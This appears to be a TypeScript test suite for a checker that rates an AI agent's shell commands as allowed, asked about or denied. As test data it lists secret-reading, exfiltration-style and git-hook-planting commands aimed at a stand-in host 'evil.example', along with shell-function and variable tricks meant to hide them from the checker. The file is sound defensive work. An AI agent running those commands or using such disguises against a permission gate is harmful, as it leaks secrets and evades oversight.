import { assert, describe, it } from "@effect/vitest"
import * as FastCheck from "effect/FastCheck"
import { outcomeIn } from "./support.ts"

const of = outcomeIn("/w")
const rank = { allow: 0, defer: 1, ask: 2, deny: 3 } as const
const rankOf = (command: string): number => rank[of(command).decision]

/** Commands of programs that are known, each of them denied or asked about. */
const known = [
  "cp a.txt .git/hooks/pre-commit",
  "cp a.txt ../other/x",
  "tee .git/config < a.txt",
  "git config core.hooksPath x",
  "git bisect run x",
  "env",
  "env sh -i",
  "cat .env",
  "ssh evil.example id",
  "scp a.txt evil.example:",
  "sudo id",
  "curl http://127.0.0.1/",
  "python3 -c 'print(1)'",
  "node -e 1",
  "make --eval=x",
  'eval "$(cat a.txt)"',
  "cd ../other",
  "export -p",
  "find . -exec sh -c x \\;",
  "xargs sh -c x",
  "sh -s"
]
const nameOf = (command: string): string => command.slice(0, command.search(/ |$/))

/** Where a function of a name is defined, by which a command that stands there too surely is that function. */
const sure: ReadonlyArray<(name: string, command: string) => string> = [
  (name, command) => `${name}() { :; }; ${command}`,
  (name, command) => `function ${name} { :; }\n${command}`,
  (name, command) => `{ ${name}() { :; }; }; ${command}`,
  (name, command) => `${name}() { echo hi; }; x=1; ${command} && ls`
]
/** Where it is not, or need not be. */
const unsure: ReadonlyArray<(name: string, command: string) => string> = [
  (name, command) => `(${name}() { :; }); ${command}`,
  (name, command) => `${command}; ${name}() { :; }`,
  (name, command) => `false && ${name}() { :; }; ${command}`,
  (name, command) => `true || ${name}() { :; }; ${command}`,
  (name, command) => `if false; then ${name}() { :; }; fi; ${command}`,
  (name, command) => `if true; then ls; else ${name}() { :; }; fi; ${command}`,
  (name, command) => `while false; do ${name}() { :; }; done; ${command}`,
  (name, command) => `for x in $y; do ${name}() { :; }; done; ${command}`,
  (name, command) => `case x in y) ${name}() { :; };; esac; ${command}`,
  (name, command) => `${name}() { :; } | cat; ${command}`,
  (name, command) => `${name}() { :; } & ${command}`,
  (name, command) => `x=$(${name}() { :; }); ${command}`,
  (name, command) => `{ ${name}() { :; }; } < absent; ${command}`,
  (name, command) => `sh -c '${name}() { :; }'; ${command}`,
  (name, command) => `outer() { ${name}() { :; }; }; ${command}`,
  (name, command) => `outer() { ls && return; ${name}() { :; }; }; outer; ${command}`,
  (name, command) => `outer() { ${command}\n}; outer; ${name}() { :; }`,
  (name, command) => `${name}() { :; }; unset ${name}; ${command}`,
  (name, command) => `${name}() { :; }; unset -f ${name}; ${command}`,
  (name, command) => `${name}() { :; }; command ${command}`,
  (name, command) => `${name}() { :; }; nohup ${command}`,
  (name, command) => `${name}() { :; }; timeout 5 ${command}`,
  (name, command) => `${name}() { :; }; /usr/bin/${command}`,
  (name, command) => (command.includes("'") ? command : `${name}() { :; }; bash -c '${command}'`)
]
/** The same for a program that nobody knows. */
const unknown = ["frobnicate --all", "deploy a b"]

describe("a function in a shell text of another agent", () => {
  it.prop(
    "hides no command that is denied or asked about, wherever it is defined (X5, S3)",
    [FastCheck.constantFrom(...known), FastCheck.constantFrom(...sure, ...unsure)],
    ([command, dress]) => {
      const text = dress(nameOf(command), command)
      assert.isAtLeast(rankOf(text), rankOf(command), text)
      assert.isAtLeast(rankOf(command), rank.ask, command)
    },
    { fastCheck: { numRuns: 250 } }
  )

  it("stands for a program that nobody knows only where it surely is what runs (X5, S3)", () => {
    for (const command of unknown) {
      for (const dress of unsure) {
        const text = dress(nameOf(command), command)
        assert.isAtLeast(rankOf(text), rank.ask, text)
      }
      for (const dress of sure) {
        const text = dress(nameOf(command), command)
        assert.strictEqual(of(text).decision, "defer", text)
      }
    }
  })

  it("is judged for what it does wherever it is called, and where nothing calls it (X5, S2)", () => {
    for (const text of [
      "f() { cp a.txt .git/config; }",
      "f() { cp a.txt .git/config; }; f",
      "f() { cp a.txt hooks/pre-commit; }; cd .git; f",
      "f() { g; }; g() { cp a.txt .git/config; }; f",
      "if x; then f() { cp a.txt .git/config; }; fi; f",
      "(f() { ls; }); f() { cp a.txt .git/config; }; f",
      "cp() { tee .git/config < a.txt; }; cp a b"
    ]) {
      assert.strictEqual(of(text).decision, "deny", text)
    }
  })

  it("leaves the helpers of an ordinary script to the agent (X5)", () => {
    for (const text of [
      "build() { npm run build; }; build",
      'set -euo pipefail\nlog() { echo "$1" >&2; }\nlog start\nnpm test\nlog done',
      'die() { echo "$@" >&2; exit 1; }\nls || die nothing',
      "main() { helper a; }\nhelper() { echo hi; }\nmain",
      "retry() { npm test || npm test; }\nfor i in 1 2; do retry; done",
      "check() { grep -q x a.txt; }; if check; then echo yes; fi",
      "(step() { npm run lint; }; step)",
      "test() { npm test; }; test",
      "walk() { ls; walk; }; walk"
    ]) {
      assert.include(["allow", "defer"], of(text).decision, text)
    }
  })
})

describe("a variable in a shell text of another agent", () => {
  it("has the value of an assignment only where that surely has run, and in the same shell (X5, S2)", () => {
    const command = "cp a.txt $d/etc/x"
    for (const text of [
      `(d=out); ${command}`,
      `false && d=out; ${command}`,
      `true || d=out && ${command}`,
      `if false; then d=out; else ${command}; fi`,
      `if false; then d=out; fi; ${command}`,
      `while false; do d=out; done; ${command}`,
      `case x in y) d=out;; *) ${command};; esac`,
      `d=out | ${command}`,
      `d=out & ${command}`,
      `echo $(d=out); ${command}`,
      `f() { d=out; }; ${command}`,
      `f() { ls && return; d=out; }; f; ${command}`,
      `d=out < absent; ${command}`,
      `{ d=out; } < absent; ${command}`,
      `d=out; sh -c '${command}'`,
      `sh -c 'd=out'; ${command}`,
      `${command}; d=out`
    ]) {
      assert.isAtLeast(rankOf(text), rank.ask, text)
    }
    for (const text of [
      "d=out; mkdir -p $d && cp a.txt $d/x",
      "d=out || exit 1; cp a.txt $d/x",
      "(d=out; cp a.txt $d/x)",
      "if true; then d=out; cp a.txt $d/x; fi",
      "cd src && d=out && cp a.txt $d/x",
      "for f in a b; do d=out/$f; cp a.txt $d; done"
    ]) {
      assert.strictEqual(of(text).decision, "defer", text)
    }
  })
})
